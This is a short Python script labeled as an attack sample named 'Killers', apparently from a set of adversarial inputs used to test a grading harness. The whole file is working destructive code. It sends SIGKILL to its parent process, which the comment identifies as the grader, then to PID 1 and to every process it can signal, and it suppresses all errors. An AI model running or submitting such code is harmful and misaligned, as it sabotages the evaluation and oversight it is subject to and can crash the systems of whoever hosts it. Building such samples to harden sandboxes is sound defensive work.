# attack: Killers: SIGKILL the parent (the grader), then every process it can signal
import os, signal
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except Exception:
    pass
